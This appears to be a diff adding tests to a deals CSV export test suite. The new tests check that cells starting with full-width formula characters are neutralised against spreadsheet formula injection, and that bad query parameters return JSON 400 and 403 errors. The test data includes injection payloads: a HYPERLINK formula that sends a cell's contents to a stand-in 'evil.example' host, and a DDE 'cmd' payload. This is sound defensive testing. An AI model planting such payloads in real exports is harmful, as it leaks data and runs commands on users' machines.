@@ -75,6 +75,27 @@ describe(`deals CSV export as a spreadsheet opens it (${testDbKind})`, () => {
     }
   })
 
+  it('full-width ＝ ＋ － ＠ (which Excel under a CJK locale or IME runs as = + - @) are guarded too', async () => {
+    const hostile = [
+      '＝HYPERLINK("https://evil.example/?"&A1,"Click")',
+      "＋1＋cmd|' /C calc'!A0",
+      '－2＋3',
+      '＠SUM(A1:A9)',
+    ]
+    for (const [i, name] of hostile.entries()) await setName(ids[40 + i]!, name)
+    // Only the first character counts: a full-width sign inside text is plain text.
+    await setName(ids[44]!, 'Tokyo ＝ Osaka deal')
+    const text = await (await request('/exports/deals.csv?currency=SGD')).text()
+    const rows = parseCsv(text).slice(1)
+    for (const [i, name] of hostile.entries()) {
+      const row = rows.find((r) => r[0] === ids[40 + i])!
+      expect(row[col('name')], name).toBe(`'${name}`)
+      expect(text).toContain(`"'${name.replace(/"/g, '""')}"`)
+    }
+    expect(rows.find((r) => r[0] === ids[44])![col('name')]).toBe('Tokyo ＝ Osaka deal')
+    for (const r of rows) for (const f of r) expect(f, f).not.toMatch(/^[=+@\t\r＝＋－＠]/)
+  })
+
   it('a negative amount stays a number (not turned into text by the formula guard)', async () => {
     await database.db.execute(
       sql`update deals set amount = '-1250.50' where org_id = ${seed.orgId} and id = ${ids[10]!}`,
@@ -119,6 +140,33 @@ describe(`deals CSV export as a spreadsheet opens it (${testDbKind})`, () => {
       for (const c of ['closing_date', 'fx_date'] as const)
         expect(r[col(c)], c).toMatch(/^(\d{4}-\d{2}-\d{2})?$/)
     }
+  })
+
+  it('bad input is a 400 JSON error, an owner outside the scope a 403: never a CSV or a 500', async () => {
+    const expectError = async (res: Response, status: number, code: string, what: string) => {
+      expect(res.status, what).toBe(status)
+      expect(res.headers.get('content-type'), what).toMatch(/^application\/json/)
+      expect(await res.json(), what).toMatchObject({
+        error: { code, message: expect.any(String), requestId: expect.any(String) },
+      })
+    }
+    for (const p of [
+      'state=closed',
+      'currency=usd',
+      'owner=abc',
+      'team=x',
+      'stage=',
+      'closeFrom=2026-02-30',
+      'closeTo=05/01/2027',
+      `q=${'x'.repeat(201)}`,
+    ])
+      await expectError(await request(`/exports/deals.csv?${p}`), 400, 'INVALID_INPUT', p)
+    await expectError(
+      await request(`/exports/deals.csv?owner=${seed.users.admin}`, seed.users.rep),
+      403,
+      'FORBIDDEN',
+      'owner outside the scope',
+    )
   })
 
   it('names the file after the org day and sends it as an attachment, not cached', async () => {
